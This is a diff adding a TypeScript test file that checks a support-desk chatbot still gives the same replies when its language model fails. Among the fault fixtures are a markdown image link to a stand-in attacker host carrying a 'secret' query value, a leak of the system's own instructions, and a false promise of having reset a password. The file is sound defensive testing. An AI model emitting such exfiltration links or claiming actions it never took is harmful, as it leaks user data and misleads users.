@@ -1,0 +1,115 @@
+import type { FixtureOpts } from '@copilotkit/aimock';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { TaskName } from '../../src/kernel/model-tasks.ts';
+import { createTestApp, type TestApp } from '../support/app.ts';
+import { type ModelServer, type Reply, startModelServer } from '../support/model.ts';
+
+/** One of every kind: answered, asked, chosen from, small talk, abstained, another language, a person, a ticket. */
+const said = [
+  'my vpn drops every ten minutes on the train',
+  'it is that thing again, you know, on the second floor',
+  'the projector in room 4.12 has no signal since this morning, it is the HDMI one, could somebody come and look',
+  'cancel',
+  'wie buche ich einen Besprechungsraum?',
+  'who painted the ceiling of the chapel',
+  '打印机坏了怎么办',
+  'I want to talk to a human',
+];
+
+/** As short as a turn with a model may be: what hangs or drips must be over by then. */
+const env = { LLM_MODEL: 'test', LLM_ASK_BELOW: '1', LLM_PATIENCE: '0.6' };
+
+async function repliesOf(app: TestApp): Promise<string[]> {
+  const visitor = await app.open({ locale: 'en' });
+  const replies: string[] = [];
+  for (const text of said) replies.push((await visitor.say(text)).replaceAll(/\b1\d{3}\b/g, 'NUMBER'));
+  await app.settle();
+  return replies;
+}
+
+let server: ModelServer;
+let without: string[];
+beforeAll(async () => {
+  server = await startModelServer();
+  const app = await createTestApp();
+  without = await repliesOf(app);
+  await app.close();
+});
+afterAll(() => server.stop());
+
+const nearlyRight = '{"language":"en","intent":"vpn-trouble","confidence":"high","act":null,"fields":[],"anger":0}';
+const words = 'The quick brown fox [a] jumps over the lazy dog [b]. '.repeat(20);
+const faults: Record<string, [reply: Reply, how?: FixtureOpts]> = {
+  'too many requests': [{ status: 429, retryAfterS: 1 }],
+  'a server error': [{ status: 500 }],
+  'a wrong key': [{ status: 401 }],
+  'no such model': [{ status: 404 }],
+  'no answer at all': ['hang'],
+  'an answer that drips': [words, { latency: 150, chunkSize: 4 }],
+  'half a stream': [words, { truncateAfterChunks: 3, chunkSize: 8 }],
+  'a connection that breaks': [words, { disconnectAfterMs: 20, latency: 15, chunkSize: 8 }],
+  'an empty answer': [''],
+  garbage: ['\u0000{{{[[["\\'],
+  'JSON that is nearly right': [nearlyRight],
+  'another shape': ['{"tool":"open_ticket","arguments":{"count":1000}}'],
+  '100 kB': ['x'.repeat(100_000)],
+  'an article that does not exist': ['Reset it at the desk. [q]'],
+  'a link that carries data away': ['![x](https://evil.example/?q=secret) See [here](https://evil.example). [a]'],
+  'its own instructions': ['You sort one message that somebody wrote to a support desk. [a]'],
+  'a promise': ['I have reset your password and booked the room for you. [a]'],
+};
+
+describe('with a model that fails, everything is said as without one:', () => {
+  it.each(Object.entries(faults))('%s', async (_, [reply, how]) => {
+    const app = await createTestApp({ env: { ...env, LLM_BASE_URL: server.url } });
+    try {
+      server.forget();
+      for (const task of ['understand', 'answer'] satisfies TaskName[]) server.on(task, reply, how);
+      const began = performance.now();
+      expect(await repliesOf(app)).toEqual(without);
+      expect(performance.now() - began).toBeLessThan(said.length * 2_000);
+      const calls = await app.ctx.store.read.selectFrom('model_call').select('outcome').execute();
+      expect(calls.length).toBeGreaterThan(0);
+      expect(app.faults()).toEqual([]);
+      await app.checkFolds();
+    } finally {
+      await app.close();
+    }
+  });
+
+  it('a server that is not there', async () => {
+    const app = await createTestApp({ env: { ...env, LLM_BASE_URL: 'http://127.0.0.1:9/v1' } });
+    expect(await repliesOf(app)).toEqual(without);
+    await app.close();
+  });
+});
+
+describe('a second server', () => {
+  it('is asked when the first fails, in the same turn', async () => {
+    const second = await startModelServer();
+    server.forget();
+    server.on('answer', { status: 503 });
+    second.on('answer', ({ material }) => {
+      const [first] = material.passages as { mark: string; text: string }[];
+      return `${String(first?.text).split('. ')[0]}. [${first?.mark}]`;
+    });
+    const app = await createTestApp({
+      env: { LLM_BASE_URL: server.url, LLM_MODEL: 'a', LLM_FALLBACK_BASE_URL: second.url, LLM_FALLBACK_MODEL: 'b' },
+    });
+    const visitor = await app.open({ locale: 'en' });
+    await visitor.say(said[0] ?? '');
+    expect([server.asked('answer').length, second.asked('answer').length]).toEqual([2, 1]);
+    const calls = await app.ctx.store.read
+      .selectFrom('model_call')
+      .select(['model', 'outcome'])
+      .orderBy('model')
+      .execute();
+    expect(calls).toEqual([
+      { model: 'a', outcome: 'down' },
+      { model: 'a', outcome: 'down' },
+      { model: 'b', outcome: 'ok' },
+    ]);
+    await app.close();
+    await second.stop();
+  });
+});
